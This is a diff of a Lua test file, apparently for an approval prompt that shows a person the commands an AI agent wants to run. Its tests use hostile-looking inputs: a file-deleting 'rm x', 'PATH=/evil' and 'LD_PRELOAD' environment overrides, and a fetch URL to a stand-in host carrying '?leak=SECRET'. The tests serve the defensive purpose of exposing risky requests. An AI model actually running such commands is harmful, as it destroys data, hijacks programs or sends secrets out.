@@ -50,7 +50,7 @@ end
 describe('a command', function()
   it('is shown whole, with where and by what it runs', function()
     assert.same({
-      'run_command ls',
+      'run_command',
       'risky, asked because it runs a command',
       '',
       '$ ls -la',
@@ -60,7 +60,10 @@ describe('a command', function()
       '',
       'a allow this',
       'r reject   q leave it waiting',
-    }, lines({ command = command('ls -la\nrm x\n') }))
+    }, lines({ title = 'run_command ls -la rm x', command = command('ls -la\nrm x\n') }))
+    local dangerous = 'run_command rm x (dangerous: it deletes)'
+    local heading = lines({ title = dangerous, command = command('rm x') })[1]
+    assert.same('run_command (dangerous: it deletes)', heading)
   end)
 
   it('cannot look like lines of ours, nor hide characters', function()
@@ -75,7 +78,7 @@ describe('a command', function()
 
   it("names what of its environment is as the person's own, and shows the rest", function()
     local shown = lines({ command = command('x', { HOME = '/home/me', PATH = '/evil', LD_PRELOAD = 'a b' }) })
-    assert.same({ "with 'LD_PRELOAD=a b'  PATH=/evil", 'and  HOME as they are here' }, vim.list_slice(shown, 7, 8))
+    assert.same({ "with 'LD_PRELOAD=a b'  PATH=/evil  and 1 of your own", '' }, vim.list_slice(shown, 7, 8))
   end)
 end)
 
@@ -93,6 +96,13 @@ describe('a title', function()
     local title = content.title(request({ title = ('ä'):rep(400) .. ' (dangerous: it deletes)' }))
     assert.truthy(title:find(' … .*%(dangerous: it deletes%)$'))
     assert.same(title, vim.fn.iconv(title, 'utf-8', 'utf-8'))
+  end)
+
+  it('is shown whole, too, where nothing else says what is allowed', function()
+    local url = 'fetch https://a.example/' .. ('a'):rep(150) .. '?leak=SECRET' .. ('b'):rep(150)
+    assert.falsy(content.title(request({ title = url })):find('SECRET'))
+    assert.same({ '> ' .. url }, vim.list_slice(lines({ title = url }), 4, 4))
+    assert.same('a allow this', lines({ title = 'fetch https://a.example' })[4])
   end)
 end)
 
